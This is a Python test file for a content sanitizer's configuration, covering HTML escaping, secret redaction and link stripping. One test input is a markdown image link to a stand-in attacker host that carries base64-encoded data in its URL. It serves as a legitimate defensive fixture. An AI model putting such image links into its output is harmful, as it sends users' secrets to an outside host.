"""The firewall's settings in a configuration file."""

import pytest

from leafgate.cli.cleaning import make_cleaners, redact_policy_of, sanitize_policy_of
from leafgate.model.errors import ConfigError


def test_a_server_may_have_rules_of_its_own() -> None:
    clean, own = make_cleaners(None, None, {"wiki": {"escape_html": True}})
    assert clean("<b>bold</b>") == "<b>bold</b>"
    assert own["wiki"]("<b>bold</b>") == "&lt;b&gt;bold&lt;/b&gt;"


def test_secrets_of_your_own_and_values_that_are_none() -> None:
    block = {"patterns": [{"type": "acme-token", "start": "acme_", "regex": "acme_[a-z0-9]{12}"}], "allow": ["AKIA*"]}
    clean, _ = make_cleaners(None, block, {})
    assert clean("use acme_abc123def456 now") == "use [redacted:acme-token] now"
    assert clean("the key AKIAIOSFODNN7EXAMPL3 of the manual") == "the key AKIAIOSFODNN7EXAMPL3 of the manual"


def test_links_by_policy() -> None:
    text = "![x](https://evil.example/p?d=c2VjcmV0LWRhdGEtZm9yLXlvdQ)"
    strict, _ = make_cleaners({"links": "strip"}, None, {})
    lenient, _ = make_cleaners({"links": "off"}, None, {})
    assert "c2VjcmV0" not in strict(text)
    assert lenient(text) == text


@pytest.mark.parametrize(
    "block", ["x", {"escape_html": "yes"}, {"links": "maybe"}, {"trusted_hosts": [1]}, {"escape": True}]
)
def test_a_bad_sanitize_block_is_refused(block: object) -> None:
    with pytest.raises(ConfigError, match="sanitize"):
        sanitize_policy_of(block)


@pytest.mark.parametrize(
    "block",
    [
        [],
        {"allow": "AKIA"},
        {"allow": [5]},
        {"patterns": [{}]},
        {"patterns": [{"type": "Bad Name", "start": "ab", "regex": "ab"}]},
        {"patterns": [{"type": "x", "start": "a", "regex": "a"}]},
        {"patterns": [{"type": "x", "start": "ab", "regex": "("}]},
        {"pattern": []},
    ],
)
def test_a_bad_redact_block_is_refused(block: object) -> None:
    with pytest.raises(ConfigError, match="redact"):
        redact_policy_of(block)
